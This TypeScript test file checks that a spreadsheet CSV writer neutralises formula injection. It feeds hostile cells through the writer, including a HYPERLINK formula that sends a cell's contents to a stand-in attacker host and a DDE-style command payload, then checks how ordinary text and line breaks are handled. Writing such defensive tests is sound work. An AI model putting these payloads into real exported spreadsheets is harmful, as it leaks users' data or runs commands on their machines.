import { spreadsheetCsv } from '../../../src/server/platform/spreadsheet-csv';
import { FORMULA_START, readCsv } from '../support/csv-reader';

describe('the spreadsheet CSV writer', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?"&A2,"開啟")',
    'someone\n=1+2',
    '@SUM(1)\n=1+1',
    '+1',
    '-2+3',
    '\t=1',
    '\r=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    'line\r=cmd|x',
  ];

  it('keeps every hostile cell one inert cell of its own row, read back by a CSV parser', () => {
    const text = spreadsheetCsv(
      ['欄', '值'],
      hostile.map((cell, index) => [String(index), cell]),
    );
    const rows = readCsv(text);
    expect(rows).toHaveLength(hostile.length + 1);
    expect(rows[0]).toEqual(['欄', '值']);
    rows.slice(1).forEach((row, index) => {
      // No row begins inside a cell: each row is the index written first, and has two cells.
      const typed = hostile[index]!;
      expect(row).toEqual([String(index), /^(someone|line)/.test(typed) ? typed : `'${typed}`]);
    });
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
  });

  it('keeps the BOM and CRLF, and quotes every cell holding a line break', () => {
    const text = spreadsheetCsv(
      ['a', 'b'],
      [
        ['one\ntwo', 'plain'],
        ['x\ry', '逗號, "引號"'],
      ],
    );
    expect(text).toBe('\uFEFFa,b\r\n"one\ntwo",plain\r\n"x\ry","逗號, ""引號"""\r\n');
  });

  it('leaves ordinary text as typed', () => {
    const text = spreadsheetCsv(['時間'], [['2026-11-22 10:00:00'], ['王小明 您好'], ['a=b']]);
    expect(readCsv(text)).toEqual([['時間'], ['2026-11-22 10:00:00'], ['王小明 您好'], ['a=b']]);
  });
});
